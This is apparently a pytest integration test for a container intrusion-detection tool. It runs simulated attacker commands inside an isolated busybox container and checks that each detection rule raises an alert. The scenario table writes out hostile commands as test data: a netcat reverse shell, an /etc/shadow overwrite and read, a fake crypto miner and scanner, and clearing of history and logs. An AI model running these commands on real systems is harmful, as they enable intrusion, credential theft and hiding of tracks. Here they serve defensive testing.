"""Rules on the running kernel: what an intruder does in a real container raises its rule."""

import asyncio
import json
import os
import queue
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from screen import text_of

from csyspy.capture.live import tier
from csyspy.cli.command import Command
from csyspy.cli.metadata import open_metadata
from csyspy.rules.settings import own_rules_files
from csyspy.tui.app import CsyspyApp
from csyspy.tui.screens.alerts import AlertsScreen
from csyspy.tui.stream_feed import StreamFeed

from .conftest import DEADLINE_S, Runtime

ELSEWHERE = "192.0.2.1"  # of no network (RFC 5737): it exists in the container's own loopback only


class Watch:
    """csyspy with its own rules; gives alerts as they come."""

    def __init__(self, docker: Runtime) -> None:
        words = [sys.executable, "-m", "csyspy", "rules", "--json", "-U", "-pc"]
        environment = {**os.environ, "DOCKER_HOST": f"unix://{docker.socket}"}
        self.process = subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment)
        self._alerts: queue.Queue[dict[str, Any]] = queue.Queue()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self._alerts.put(json.loads(line))

    def next(self, rule: str, container: str, timeout_s: float) -> dict[str, Any] | None:
        """The next alert of a rule about a container, not about others that run here; None where none comes in time."""
        give_up = time.monotonic() + timeout_s
        while (left_s := give_up - time.monotonic()) > 0:
            try:
                alert = self._alerts.get(timeout=left_s)
            except queue.Empty:
                return None
            if alert["rule"] == rule and alert["output_fields"]["container.id"] == container[:12]:
                return alert
        return None

    def alert_of(self, rule: str, container: str, words: list[str]) -> dict[str, Any]:
        """The alert that a command raises. The command is done again where the machine was too busy for it to come to the point."""
        give_up = time.monotonic() + DEADLINE_S
        said = ""
        while time.monotonic() < give_up:
            done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=DEADLINE_S, check=False)
            said = done.stdout + done.stderr
            alert = self.next(rule, container, DEADLINE_S / 8)
            if alert is not None:
                return alert
        raise AssertionError(f"no alert of {rule}; exit code {self.process.poll()}; the command said: {said}")

    def close(self) -> str:
        """End it; what it said on standard error."""
        self.process.terminate()
        return self.process.communicate(timeout=DEADLINE_S)[1]


@pytest.fixture(scope="module")
def container(docker: Runtime) -> str:
    """A container that waits, in a network of its own that holds ELSEWHERE."""
    full_id = docker.run("run", "-d", "--name", "victim", "--network", "none", "busybox:lab")
    pid = docker.run("inspect", "-f", "{{.State.Pid}}", full_id)
    inside = ["nsenter", "-t", pid, "-n"]
    subprocess.run([*inside, "ip", "link", "set", "lo", "up"], check=True)
    subprocess.run([*inside, "ip", "addr", "add", f"{ELSEWHERE}/32", "dev", "lo"], check=True)
    return full_id


@pytest.fixture(scope="module")
def watch(docker: Runtime, container: str) -> Iterator[Watch]:
    missing = tier.lacking(tier.Tier.A, tier.possibilities())
    if missing is not None:
        pytest.skip(f"needs live capture: {missing.message}")
    watch = Watch(docker)
    give_up = time.monotonic() + DEADLINE_S
    while watch.next("Command run in running container", container, 0.5) is None:  # it takes a moment until everything is hooked
        assert time.monotonic() < give_up, watch.close()
        docker.run("exec", container, "true")
    yield watch
    said = watch.close()
    assert "Traceback" not in said


def until(command: str) -> str:
    """A command for a shell, done again until it comes off: who listens may need a while until it does."""
    return f"n=0; until {command} || [ $n = 100 ]; do n=$((n+1)); sleep 0.1; done"


SCENARIOS = {
    "Credential file read": "echo root::0 > /etc/shadow; cat /etc/shadow",
    "Configuration below etc written": "echo x > /etc/profile.local",
    "Program directory changed": "cp /bin/busybox /bin/ls-of-mine",
    "Package manager in container": "ln -sf busybox /bin/apk; exec apk add x",
    "Crypto miner started": "cp /bin/busybox /tmp/xmrig; /tmp/xmrig",
    "New program run in container": "cp /bin/busybox /tmp/busybox; exec /tmp/busybox true",
    "Unexpected outbound connection": f"(nc -l -p 4444 </dev/null & {until(f'echo | nc {ELSEWHERE} 4444')})",
    "Reverse shell": f"(echo exit | nc -l -p 4445 & {until(f'nc {ELSEWHERE} 4445 -e /bin/sh')})",
    "Network scanner started": "nc -z -w 1 127.0.0.1 7; cp /bin/busybox /tmp/nmap; /tmp/nmap -sS 127.0.0.1",
    "Shell history cleared": "echo x > /root/.bash_history; rm /root/.bash_history",
    "Log cleared": "mkdir -p /var/log; echo x > /var/log/app.log; : > /var/log/app.log",
}


@pytest.mark.parametrize("rule", SCENARIOS)
def test_scenario(rule: str, docker: Runtime, container: str, watch: Watch) -> None:
    docker_exec = ["docker", "-H", f"unix://{docker.socket}", "exec", container, "sh", "-c", f"mkdir -p /root /tmp; {SCENARIOS[rule]}"]
    alert = watch.alert_of(rule, container, docker_exec)
    assert alert["output_fields"]["container.name"] == "victim"


def test_a_shell_with_a_terminal(docker: Runtime, container: str, watch: Watch) -> None:
    words = ["script", "-qec", f"docker -H unix://{docker.socket} exec -it {container} sh -c exit", "/dev/null"]
    alert = watch.alert_of("Interactive shell in container", container, words)
    assert alert["output_fields"]["container.name"] == "victim"


async def test_all_of_it_stands_in_the_view(docker: Runtime, container: str) -> None:
    missing = tier.lacking(tier.Tier.A, tier.possibilities())
    if missing is not None:
        pytest.skip(f"needs live capture: {missing.message}")
    in_container = ["docker", "-H", f"unix://{docker.socket}", "exec", container, "sh", "-c"]
    commands = {rule: [*in_container, f"mkdir -p /root /tmp; {SCENARIOS[rule]}"] for rule in SCENARIOS}
    with_terminal = f"docker -H unix://{docker.socket} exec -it {container} sh -c exit"
    commands["Interactive shell in container"] = ["script", "-qec", with_terminal, "/dev/null"]
    feed = StreamFeed(1.0, open_metadata(Command(docker_host=f"unix://{docker.socket}")))
    app = CsyspyApp(feed, rules_files=own_rules_files())
    async with app.run_test(size=(200, 50)) as pilot:
        await pilot.press("A")
        screen = app.screen
        assert isinstance(screen, AlertsScreen)

        def missing_rules() -> list[str]:
            lines = [screen.line_text(line) for line in range(screen.line_count)]
            return [rule for rule in commands if not any(line.startswith(f"{rule} victim ") for line in lines)]

        give_up = time.monotonic() + 2 * DEADLINE_S
        while missing_rules():
            assert time.monotonic() < give_up, (missing_rules(), app.said)
            for rule in missing_rules():
                await asyncio.to_thread(subprocess.run, commands[rule], stdin=subprocess.DEVNULL, capture_output=True, timeout=DEADLINE_S)
            await pilot.pause(0.5)
        text = text_of(app)
        assert "victim" in text
        assert "▲ Critical" in text
